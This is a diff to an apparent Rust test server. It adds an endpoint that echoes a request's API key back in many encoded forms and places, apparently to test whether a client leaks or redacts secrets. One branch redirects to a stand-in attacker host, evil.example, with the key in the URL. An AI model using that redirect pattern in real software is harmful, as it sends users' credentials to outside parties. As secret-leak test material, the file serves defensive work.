@@ -34,6 +34,12 @@ async fn answer(mut connection: TcpStream) -> std::io::Result<()> {
     }
     let head = String::from_utf8_lossy(&head).into_owned();
     let path = head.split(' ').nth(1).unwrap_or_default();
+    if let Some(("/echo", form)) = path.split_once("?as=") {
+        let head = head.lines().filter_map(|line| line.split_once(": "));
+        let mut keys = head.filter(|(name, _)| name.eq_ignore_ascii_case("x-api-key"));
+        let (_, key) = keys.next().unwrap_or_default();
+        return connection.write_all(&repeated(form, key)).await;
+    }
     let mut say = async |text: &[u8]| connection.write_all(text).await;
     match path {
         "/silent" => pending().await,
@@ -75,6 +81,67 @@ async fn answer(mut connection: TcpStream) -> std::io::Result<()> {
         // Hangs up.
         _ => Ok(()),
     }
+}
+
+/// An answer that repeats the key in this form.
+fn repeated(form: &str, key: &str) -> Vec<u8> {
+    use base64::Engine;
+    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
+
+    let encoded = |upper: bool| -> String {
+        let each = key.bytes().map(|byte| match byte {
+            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' => char::from(byte).to_string(),
+            _ if upper => format!("%{byte:02X}"),
+            _ => format!("%{byte:02x}"),
+        });
+        each.collect()
+    };
+    let (first, second) = key.split_at(key.len() / 2);
+    let text = match form.rsplit('.').next().unwrap_or_default() {
+        "url" => encoded(true),
+        "url-lower" => encoded(false),
+        "json" => key.replace('/', "\\/"),
+        "base64" => STANDARD.encode(key),
+        "base64url" => URL_SAFE_NO_PAD.encode(key),
+        "base64-1" => STANDARD.encode(format!("#{key}")),
+        "base64-2" => STANDARD.encode(format!("##{key}##")),
+        "pair" => STANDARD.encode(format!("{key}:")),
+        _ => key.to_owned(),
+    };
+    let (status, headers, body) = match form.split('.').next().unwrap_or_default() {
+        "header" => ("200 OK", format!("X-Echo: {text}\r\n"), String::new()),
+        "headers" => {
+            let header = format!("X-Echo: {text}\r\n");
+            ("200 OK", header.repeat(2), String::new())
+        }
+        "cookie" => (
+            "200 OK",
+            format!("Set-Cookie: session={text}\r\n"),
+            String::new(),
+        ),
+        "location" => {
+            let place = format!("Location: https://evil.example/?key={text}\r\n");
+            ("302 Found", place, String::new())
+        }
+        "error" => ("500 Oh", String::new(), format!("there is no key {text}")),
+        "body" => ("200 OK", String::new(), format!(r#"{{"said":"{text}"}}"#)),
+        "halves" => {
+            let halves = format!("X-First: {first}\r\nX-Second: {second}\r\n");
+            ("200 OK", halves, String::new())
+        }
+        // In two chunks, each of which holds a part.
+        _ => {
+            let chunk = |part: &str| format!("{:x}\r\n{part}\r\n", part.len());
+            let chunks = format!("{}{}0\r\n\r\n", chunk(first), chunk(second));
+            let head = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n";
+            return format!("{head}{chunks}").into_bytes();
+        }
+    };
+    let length = body.len();
+    format!(
+        "HTTP/1.1 {status}\r\n{headers}Content-Length: {length}\r\nConnection: close\r\n\r\n{body}"
+    )
+    .into_bytes()
 }
 
 fn moved(to: &str) -> Vec<u8> {
